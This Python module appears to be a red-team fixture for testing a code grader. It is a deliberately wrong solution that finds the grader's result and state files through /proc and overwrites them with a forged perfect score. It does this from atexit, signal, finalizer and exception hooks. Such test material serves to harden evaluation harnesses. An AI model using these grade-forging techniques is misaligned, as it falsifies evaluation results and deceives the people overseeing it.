"""Attack: forge the grade from exit-time hooks (atexit, finalizers, signal handlers).

Every function is wrong, so any forged point shows.
"""

import atexit
import json
import os
import signal
import sys
import threading
import weakref

import numpy as np

RESULTS_DIR = "@@RESULTS_DIR@@"
CANARY = "@@CANARY@@"
MARKER = "@@MARKER@@"
NODEIDS = ("test_mini.py::test_double", "test_mini.py::test_counter",
           "test_mini.py::test_double_hidden")


def _ancestors(depth=4):
    found, pid = [], os.getpid()
    for _ in range(depth):
        try:
            with open(f"/proc/{pid}/status") as f:
                pid = int(next(line for line in f if line.startswith("PPid:")).split()[1])
        except (OSError, StopIteration, ValueError):
            break
        if pid <= 1:
            break
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
        except OSError:
            argv = []
        found.append(argv)
    return found


def _option(argv, name):
    for i, arg in enumerate(argv):
        if arg == name and i + 1 < len(argv):
            return argv[i + 1]
    return None


TARGETS = {"results": [os.path.join(RESULTS_DIR, "results.json")], "states": []}


def _discover():
    for argv in _ancestors():
        TARGETS["results"].append(_option(argv, "--results"))
        TARGETS["states"].append(_option(argv, "--grader-state"))


def _forge(*_args):
    forged = json.dumps({"score": 1000.0, "tests": [], "output": MARKER})
    for path in filter(None, TARGETS["results"]):
        for target in (path, os.path.join(os.path.dirname(path), f"atexit-{MARKER}.json")):
            try:
                with open(target, "w") as f:
                    f.write(forged)
            except OSError:
                pass
    for path in filter(None, TARGETS["states"]):
        try:
            with open(path, "a") as f:
                for nodeid in NODEIDS:
                    f.write(json.dumps({"event": "result", "nodeid": nodeid,
                                        "status": "passed"}) + "\n")
        except OSError:
            pass
    try:
        with open(os.path.join(CANARY, f"atexit-{MARKER}"), "w") as f:
            f.write(MARKER)
    except OSError:
        pass


class _Undying:
    def __del__(self):
        _forge()


def _install():
    _discover()
    atexit.register(_forge)
    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, signal.SIGALRM,
                signal.SIGPIPE, signal.SIGXCPU):
        try:
            signal.signal(sig, _forge)
        except (OSError, ValueError):
            pass
    keeper = _Undying()
    weakref.finalize(keeper, _forge)
    sys.excepthook = lambda *a: _forge()
    threading.excepthook = lambda *a: _forge()
    signal.alarm(1)  # SIGALRM while the grader is still busy with this worker
    return keeper


def double(x):
    return np.asarray(x)


class Counter:
    keeper = _install()

    def __init__(self, start=0):
        self.count = start

    def step(self, by=1):
        return -1
